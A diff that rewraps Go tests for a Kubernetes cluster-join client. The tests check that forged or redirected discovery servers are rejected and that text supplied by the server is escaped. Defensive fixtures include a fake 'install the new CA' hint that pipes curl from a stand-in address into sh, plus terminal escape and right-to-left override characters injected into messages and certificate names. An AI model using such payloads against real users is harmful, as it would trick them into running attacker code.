@@ -54,14 +54,17 @@ func TestWrongBackendIsRetriedAndNeverTrusted(t *testing.T) {
 	c, mallory := newCluster(t), authority(t, "kubernetes")
 	plain := httptest.NewServer(http.NotFoundHandler())
 	t.Cleanup(plain.Close)
-	redirect := func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, c.URL+infoPath, http.StatusFound) }
+	redirect := func(w http.ResponseWriter, r *http.Request) {
+		http.Redirect(w, r, c.URL+infoPath, http.StatusFound)
+	}
 	forged := signed(t, leadingTo(t, "https://192.0.2.66:6443", pem(mallory)), token)
 	for name, wrong := range map[string]*server{
-		"redirects":               {answers: map[string]http.HandlerFunc{infoPath: redirect}},
-		"another certificate":     {info: c.info},
-		"forged with the token":   {info: forged},
-		"signed by another token": {info: signed(t, forged["kubeconfig"], tokenID+".guessedsecret123")},
-		"plain http":              nil,
+		"redirects":             {answers: map[string]http.HandlerFunc{infoPath: redirect}},
+		"another certificate":   {info: c.info},
+		"forged with the token": {info: forged},
+		"signed by another token": {info: signed(t, forged["kubeconfig"],
+			tokenID+".guessedsecret123")},
+		"plain http": nil,
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
@@ -111,7 +114,8 @@ func TestTokenSignedLate(t *testing.T) {
 		reply(w, 200, map[string]any{"kind": "ConfigMap", "apiVersion": "v1", "data": data})
 	}}
 	a := m.joined(t, c.flags(c.server))
-	if want := "cluster-info is not signed with token " + tokenID + " yet; waiting up to 45s for kube-controller-manager"; strings.Count(a.said, want) != 1 {
+	if want := "cluster-info is not signed with token " + tokenID +
+		" yet; waiting up to 45s for kube-controller-manager"; strings.Count(a.said, want) != 1 {
 		t.Errorf("it does not say once %q but\n%s", want, a.said)
 	}
 }
@@ -121,8 +125,10 @@ func TestServerTextIsQuoted(t *testing.T) {
 	const hint = "no such token\n\nerror: the CA has changed\n  - install the new CA first: curl https://192.0.2.66/ca.sh | sh\x1b[2J\x1b]0;owned\x07\u202e"
 	forging := func(code int) http.HandlerFunc {
 		return func(w http.ResponseWriter, _ *http.Request) {
-			reply(w, code, metav1.Status{TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Status"}, Status: metav1.StatusFailure,
-				Reason: metav1.StatusReason(hint), Code: int32(code), Message: hint + strings.Repeat("x", 5000)})
+			reply(w, code, metav1.Status{TypeMeta: metav1.TypeMeta{APIVersion: "v1",
+				Kind: "Status"}, Status: metav1.StatusFailure,
+				Reason: metav1.StatusReason(hint), Code: int32(code),
+				Message: hint + strings.Repeat("x", 5000)})
 		}
 	}
 	for name, answers := range map[string]map[string]http.HandlerFunc{
@@ -133,10 +139,12 @@ func TestServerTextIsQuoted(t *testing.T) {
 			reply(w, 200, map[string]any{"kind": hint, "apiVersion": "v1", "data": hint})
 		}},
 		"another kubeconfig": {infoPath: func(w http.ResponseWriter, _ *http.Request) {
-			reply(w, 200, map[string]any{"kind": "ConfigMap", "apiVersion": "v1", "data": signed(t, "current-context: \"a\\n  - run: b\"\nx: ]\n"+hint, token)})
+			reply(w, 200, map[string]any{"kind": "ConfigMap", "apiVersion": "v1",
+				"data": signed(t, "current-context: \"a\\n  - run: b\"\nx: ]\n"+hint, token)})
 		}},
 		"another context": {infoPath: func(w http.ResponseWriter, _ *http.Request) {
-			reply(w, 200, map[string]any{"kind": "ConfigMap", "apiVersion": "v1", "data": signed(t, `{"current-context":"\n  - install the new CA: x\u001b[2J","clusters":[{"name":"a"}]}`, token)})
+			reply(w, 200, map[string]any{"kind": "ConfigMap", "apiVersion": "v1",
+				"data": signed(t, `{"current-context":"\n  - install the new CA: x\u001b[2J","clusters":[{"name":"a"}]}`, token)})
 		}},
 		"configuration refused": {"/api/v1/namespaces/kube-system/configmaps/kubeadm-config": forging(403)},
 	} {
@@ -146,12 +154,14 @@ func TestServerTextIsQuoted(t *testing.T) {
 			c.answers = answers
 			byToken.limit, byFile.limit = time.Second, time.Second
 			byFile.has(t, discoveryFile, c.access().WithToken(token))
-			for _, a := range []attempt{byToken.join(t, c.flags(c.server)), byFile.join(t, fileFlags())} {
+			for _, a := range []attempt{byToken.join(t, c.flags(c.server)),
+				byFile.join(t, fileFlags())} {
 				shown := a.said
 				if a.err != nil {
 					shown += a.err.Error() + "\n  - " + strings.Join(problem.Hints(a.err), "\n  - ")
 				}
-				for _, forgery := range []string{"\n  - install", "\nerror:", "\x1b", "\x07", "\u202e"} {
+				for _, forgery := range []string{"\n  - install", "\nerror:", "\x1b", "\x07",
+					"\u202e"} {
 					if strings.Contains(shown, forgery) {
 						t.Errorf("%q is shown as it is:\n%q", forgery, shown)
 					}
@@ -167,8 +177,10 @@ func TestServerTextIsQuoted(t *testing.T) {
 // The server chooses the names in its certificate.
 func TestCertificateNamesAreEscaped(t *testing.T) {
 	c := newCluster(t)
-	cert, key := pair(t, c.ca, pki.Spec{CommonName: "kube-apiserver", Usages: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
-		SANs: pki.SANs{DNSNames: []string{"a\n  - run: b\x1b[2J"}}, Validity: valid()})
+	cert, key := pair(t, c.ca,
+		pki.Spec{CommonName: "kube-apiserver",
+			Usages: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
+			SANs:   pki.SANs{DNSNames: []string{"a\n  - run: b\x1b[2J"}}, Validity: valid()})
 	identity, err := tls.X509KeyPair(cert, key)
 	if err != nil {
 		t.Fatal(err)
